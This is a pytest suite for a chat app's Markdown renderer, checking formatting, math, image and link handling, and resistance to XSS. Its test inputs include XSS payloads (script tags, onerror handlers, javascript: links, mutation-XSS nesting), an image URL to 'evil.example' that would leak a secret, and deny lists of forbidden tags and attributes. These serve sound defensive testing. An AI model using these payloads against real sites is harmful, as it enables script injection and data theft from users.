"""Tests for webchat.render: Markdown features, math, images, links, and XSS resistance."""

from __future__ import annotations

import re
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markupsafe import Markup

from webchat import render
from webchat.render import code_css, render_markdown, render_plain

PAYLOAD_FILE = Path(__file__).parent / "data" / "xss_markdown.txt"
_ESCAPES = {"{LF}": "\n", "{CR}": "\r", "{TAB}": "\t", "{NUL}": "\x00", "{FF}": "\f"}

# Never acceptable, whatever ALLOWED_TAGS says (guards against the allowlist itself growing).
FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "object", "embed", "form", "input", "button", "textarea",
    "select", "meta", "base", "link", "svg", "template", "maction", "annotation-xml", "semantics",
    "mglyph", "video", "audio", "source", "details", "body", "html", "noscript", "xmp",
}  # fmt: skip
FORBIDDEN_ATTRS = {"style", "srcdoc", "formaction", "action", "id", "name", "srcset", "background", "poster"}
URL_ATTRS = {"href", "src", "xlink:href", "action", "formaction", "data", "poster", "background"}
_URL_IGNORED = re.compile(r"[\x00-\x20\x7f-\x9f]+")
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
_DATA_IMAGE = re.compile(r"data:image/(png|jpeg|gif|webp);base64,")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))


def _elements(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Collector()
    parser.feed(html)
    parser.close()
    return parser.elements


def unsafe_reasons(html: str, files_prefix: str = "/files/") -> list[str]:
    """Every way this HTML breaks the policy (empty list = safe)."""
    problems = []
    for tag, attrs in _elements(html):
        if tag not in render.ALLOWED_TAGS or tag in FORBIDDEN_TAGS:
            problems.append(f"element <{tag}>")
        for name, value in attrs:
            if name.startswith(("on", "hx-", "data-")) or name in FORBIDDEN_ATTRS:
                problems.append(f"attribute {name} on <{tag}>")
            if name in URL_ATTRS and not _url_ok(tag, name, value or "", files_prefix):
                problems.append(f"url {name}={value!r} on <{tag}>")
    return problems


def _structure(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """Elements with their attributes in a stable order (nh3 may reorder attributes)."""
    return [(tag, sorted(attrs, key=lambda a: (a[0], a[1] or ""))) for tag, attrs in _elements(html)]


def _url_ok(tag: str, attr: str, value: str, files_prefix: str) -> bool:
    url = _URL_IGNORED.sub("", unescape(value)).lower()
    if tag == "img" and attr == "src":
        return url.startswith(files_prefix) or _DATA_IMAGE.match(url) is not None
    if tag != "a" or attr != "href":
        return False
    match = _SCHEME.match(url)
    return match is None or match.group(1) in {"http", "https", "mailto"}


def load_payloads() -> list[str]:
    payloads = []
    for line in PAYLOAD_FILE.read_text(encoding="utf-8").splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        for escape_, char in _ESCAPES.items():
            line = line.replace(escape_, char)
        payloads.append(line)
    return payloads


PAYLOADS = load_payloads()


# --------------------------------------------------------------------------- Markdown features


def test_returns_markup() -> None:
    # Defends against templates double-escaping (or |safe being sprinkled on raw strings).
    assert isinstance(render_markdown("hi"), Markup)
    assert isinstance(render_plain("hi"), Markup)


def test_headings() -> None:
    # Defends against losing block structure (and against heading ids: no DOM clobbering).
    html = render_markdown("# One\n\n### Three")
    assert "<h1>One</h1>" in html and "<h3>Three</h3>" in html
    assert "id=" not in html


def test_lists() -> None:
    # Defends against lists collapsing into paragraphs; ol start survives the sanitiser.
    html = render_markdown("- a\n- b\n\n3. c\n4. d")
    assert "<ul>" in html and "<li>a</li>" in html
    assert '<ol start="3">' in html


def test_tables_with_alignment() -> None:
    # Defends against tables being dropped and alignment being lost when style= is stripped.
    html = render_markdown("| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert "<table>" in html and "<th" in html and "<td" in html
    assert 'align="right"' in html and "style" not in html


def test_task_lists_are_characters() -> None:
    # Defends against form controls in output: boxes are ☐/☑ characters, never <input>.
    html = render_markdown("- [ ] todo\n- [x] done\n- [X] also")
    assert "☐ todo" in html and "☑ done" in html and "☑ also" in html
    assert "<input" not in html and 'class="task-list-item"' in html


def test_strikethrough() -> None:
    # Defends against ~~ being shown literally (GFM feature models rely on).
    assert "<s>gone</s>" in render_markdown("~~gone~~")


def test_autolinks() -> None:
    # Defends against bare URLs staying dead text, and against filenames (.py TLD) becoming links.
    html = render_markdown("see https://example.com/a?b=1 and <https://x.example> or main.py")
    assert '<a href="https://example.com/a?b=1"' in html
    assert '<a href="https://x.example"' in html
    assert "main.py" in html and "http://main.py" not in html


def test_fenced_code_highlighted() -> None:
    # Defends against losing highlighting (Pygments class spans, no inline styles).
    html = render_markdown("```python\ndef f(x):\n    return 1\n```")
    assert '<pre><code class="language-python">' in html
    assert '<span class="k">def</span>' in html
    assert "style=" not in html


def test_fence_language_alias_is_canonical() -> None:
    # Defends against alias classes the sanitiser would drop ("py" -> "language-python").
    assert 'class="language-python"' in render_markdown("```py\nx = 1\n```")


def test_unknown_language_is_plain_escaped_code() -> None:
    # Defends against guess_lexer (slow, wrong) and against unescaped code.
    html = render_markdown("```nosuchlang\n<b>x</b> & y\n```")
    assert "<pre><code>&lt;b&gt;x&lt;/b&gt; &amp; y\n</code></pre>" in html
    assert "<span" not in html


def test_half_open_fence_while_streaming() -> None:
    # Defends against a reply cut mid-block rendering as prose (CommonMark: runs to the end).
    html = render_markdown("Here:\n\n```python\nimport os\nprint(os.getcwd(")
    assert '<pre><code class="language-python">' in html
    assert "getcwd" in html and html.count("<pre>") == 1


@pytest.mark.parametrize("text", ["**bold", "$$\n\\frac{1", "$\\frac{1}{", "\\[x", "| a |\n|--", "[x](http"])
def test_unclosed_constructs_do_not_break(text: str) -> None:
    # Defends against exceptions or unbalanced markup on every partial frame of a stream.
    html = render_markdown(text)
    assert not unsafe_reasons(html)
    assert html.count("<p>") == html.count("</p>")


def test_render_plain_escapes_and_keeps_newlines() -> None:
    # Defends against raw user text being interpreted as HTML, and against lost line breaks.
    assert render_plain("a <b>\r\nc & d") == "a &lt;b&gt;<br>\nc &amp; d"


# --------------------------------------------------------------------------- math


@pytest.mark.parametrize(
    ("text", "display"),
    [
        ("Energy $E=mc^2$ here", "inline"),
        ("Sum $$\\sum_{i=1}^n i$$ here", "block"),
        ("$$\n\\int_0^1 x\\,dx\n$$", "block"),
        ("Root \\(\\sqrt{2}\\) here", "inline"),
        ("\\[\n\\frac{a}{b}\n\\]", "block"),
        ("```math\na^2+b^2=c^2\n```", "block"),
    ],
)
def test_math_delimiters(text: str, display: str) -> None:
    # Defends against any of the four delimiters (and ```math) showing raw LaTeX.
    html = render_markdown(text)
    assert f'<math display="{display}">' in html
    assert not unsafe_reasons(html)


def test_currency_is_not_math() -> None:
    # Defends against prices turning into formulas ("$5 and $10", "$5-$10").
    for text in ["It costs $5 and $10.", "From $5-$10 each", "Pay $ 5 now $"]:
        html = render_markdown(text)
        assert "<math" not in html, text
        assert "$" in html


def test_invalid_latex_falls_back_to_code() -> None:
    # Defends against exceptions from latex2mathml reaching the page (or the stream).
    html = render_markdown("bad $\\frac{1}{$ and\n\n$$\n\\begin{matrix\n$$")
    assert '<code class="math-error">\\frac{1}{</code>' in html
    assert '<pre class="math-error">' in html


def test_macro_definitions_refused() -> None:
    # Defends against exponential macro expansion (a tiny reply costing seconds of CPU).
    html = render_markdown("$$\\def\\a{xx}\\def\\b{\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b}\\c\\c$$")
    assert "math-error" in html


def test_math_text_is_escaped() -> None:
    # Defends against latex2mathml's own unescaping letting \text{<script>} through as markup.
    html = render_markdown("$\\text{<script>alert(1)</script>}$")
    assert "<script" not in html and "&lt;script&gt;" in html


def test_math_href_class_style_dropped() -> None:
    # Defends against \href/\class/\style becoming live attributes on MathML elements.
    html = render_markdown("$\\href{javascript:alert(1)}{x} \\class{hidden}{y} \\style{color:red}{z}$")
    assert "<math" in html
    assert "href" not in html and "class=" not in html and "style" not in html


# --------------------------------------------------------------------------- images and links


def test_remote_image_is_not_loaded() -> None:
    # Defends against data exfiltration: a remote <img> would fire a request when shown.
    html = render_markdown("![chart](https://evil.example/p.png?secret=1)")
    assert "<img" not in html
    assert '<a href="https://evil.example/p.png?secret=1"' in html and ">chart</a>" in html


def test_own_upload_image_is_shown() -> None:
    # Defends against breaking images of our own uploads.
    html = render_markdown("![cat](/files/abc/cat.png)")
    assert '<img src="/files/abc/cat.png" alt="cat">' in html


def test_files_prefix_under_path_prefix() -> None:
    # Defends against deployments under /chat/ losing images (or /files/ still being trusted).
    html = render_markdown("![a](/chat/files/x/a.png) ![b](/files/x/b.png)", files_prefix="/chat/files/")
    assert '<img src="/chat/files/x/a.png"' in html
    assert '<img src="/files/x/b.png"' not in html


def test_data_image_allowed_svg_refused() -> None:
    # Defends against SVG (scriptable) data images while keeping inline rasters.
    html = render_markdown(
        "![a](data:image/png;base64,iVBORw0KGgo=) ![b](data:image/svg+xml;base64,PHN2Zz4=)"
    )
    assert '<img src="data:image/png;base64,iVBORw0KGgo="' in html
    assert html.count("<img") == 1 and 'src="data:image/svg' not in html


def test_own_image_path_cannot_escape_prefix() -> None:
    # Defends against /files/../logout turning an image load into a same-origin GET elsewhere.
    for src in ["/files/../logout", "/files/%2e%2e/logout", "/files/.%2E/logout", "/files/x/../../a"]:
        assert "<img" not in render_markdown(f"![x]({src})"), src


def test_root_prefix_still_refuses_protocol_relative() -> None:
    # Defends against files_prefix="/" trusting "//evil.example/x.png" (a remote load).
    assert "<img" not in render_markdown("![x](//evil.example/p.png)", files_prefix="/")
    for src in ["//evil.example/p.png", "/\\evil.example/p.png"]:
        assert "src" not in render._cleaner("/").clean(f'<img src="{src}">'), src
    assert "<img" in render_markdown("![x](/a.png)", files_prefix="/")


def test_bad_files_prefix_rejected() -> None:
    # Defends against a misconfigured prefix ("/" or "//host/") trusting protocol-relative URLs.
    for prefix in ["//cdn.example/", "https://cdn.example/", "files/"]:
        with pytest.raises(ValueError):
            render_markdown("x", files_prefix=prefix)


def test_links_get_rel_and_target() -> None:
    # Defends against reverse tabnabbing, referrer leaks and SEO spam via model links.
    html = render_markdown("[a](https://a.example) and https://b.example and [c](/local)")
    assert html.count('rel="noopener noreferrer nofollow"') == 3
    assert html.count('target="_blank"') == 3


def test_refused_link_schemes() -> None:
    # Defends against script-capable and local-file link schemes.
    for url in [
        "javascript:alert(1)",
        "vbscript:x",
        "data:text/html,x",
        "file:///etc/passwd",
        "ftp://x.example",
    ]:
        html = render_markdown(f"[x]({url}) <{url}>")
        assert "href" not in html, url


# --------------------------------------------------------------------------- XSS table


def test_payload_file_is_substantial() -> None:
    # Defends against the XSS table silently shrinking (e.g. a parse error in the file).
    assert len(PAYLOADS) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xss_payload_markdown(payload: str) -> None:
    # Defends against each known attack through the full pipeline (Markdown -> HTML -> nh3).
    html = render_markdown(payload)
    assert not unsafe_reasons(html), html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xss_payload_sanitiser_alone(payload: str) -> None:
    # Defends against relying on markdown-it alone: raw HTML straight into nh3 must also be
    # safe, and stable when sanitised again (a changing re-parse is the mXSS warning sign).
    cleaner = render._cleaner("/files/")
    once = cleaner.clean(payload)
    assert not unsafe_reasons(once), once
    assert _structure(cleaner.clean(once)) == _structure(once)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xss_payload_with_other_prefix(payload: str) -> None:
    # Defends against the files_prefix check being bypassable when the prefix changes.
    html = render_markdown(payload, files_prefix="/chat/files/")
    assert not unsafe_reasons(html, "/chat/files/"), html


STREAM = (
    "Intro with a [link](https://ok.example) and ![img](/files/a.png)\n\n"
    "<script>alert(1)</script> <img src=x onerror=alert(1)> <a hx-get=/x hx-trigger=load>x</a>\n\n"
    "[x](javascript:alert(1)) [y](<java\tscript:alert(1)>) <javascript:alert(1)>\n\n"
    "![p](https://evil.example/p.png) $\\text{<svg onload=alert(1)>}$ \\(\\href{javascript:x}{y}\\)\n\n"
    "```html\n<iframe srcdoc='<script>alert(1)</script>'></iframe>\n```\n\n"
    "| a | b |\n|---|---|\n| <math><mtext><table><mglyph><style><img src=x onerror=alert(1)> | **x** |\n\n"
    "[r][ref]\n\n[ref]: &#106;avascript:alert(1)\n"
)


def test_streaming_prefixes_never_unsafe() -> None:
    # Defends against a half-received reply forming a live construct before it is complete.
    for end in range(1, len(STREAM) + 1):
        html = render_markdown(STREAM[:end])
        assert not unsafe_reasons(html), (end, html)


def test_streaming_prefixes_of_every_payload() -> None:
    # Defends against any single payload being unsafe at some intermediate length.
    for payload in PAYLOADS:
        for end in range(1, len(payload)):
            html = render_markdown(payload[:end])
            assert not unsafe_reasons(html), (payload[:end], html)


# --------------------------------------------------------------------------- CSS and speed


def test_code_css_themes() -> None:
    # Defends against a stylesheet with unscoped rules or missing dark variants.
    css = code_css()
    assert ".md pre .k {" in css
    assert "[data-theme=dark] .md pre .k {" in css
    assert "@media (prefers-color-scheme: dark)" in css
    assert ":root:not([data-theme=light]) .md pre .k {" in css
    assert not re.search(r"^(pre|td|span)\b", css, re.M)


def test_static_code_css_is_current() -> None:
    # Defends against static/css/code.css drifting from code_css() (regenerate: see its header).
    static = Path(__file__).parent.parent / "static" / "css" / "code.css"
    assert static.read_text(encoding="utf-8") == code_css()


def test_math_errors_show_the_source_instead_of_raising() -> None:
    # Defends against exceptions from latex2mathml reaching the page (or the stream).
    html = render_markdown("bad $\\frac{1}{$ and\n\n$$\n\\begin{matrix\n$$")
    assert '<code class="math-error">\\frac{1}{</code>' in html
    assert '<pre class="math-error">' in html


def test_a_programs_html_keeps_layout_tags_and_loses_what_runs():
    from webchat.render import render_html, render_layout_markdown

    html = render_html('<center><h1 style="color:red" onclick="x()">T</h1><script>alert(1)</script></center>')
    assert html == "<center><h1>T</h1></center>"
    assert render_layout_markdown("<center><h1>Write</h1></center>") == "<center><h1>Write</h1></center>"
    assert "<form" not in render_html('<form action="/x"><input name="a"></form><iframe src="//x"></iframe>')
    assert "javascript" not in render_html('<a href="javascript:alert(1)">x</a>')
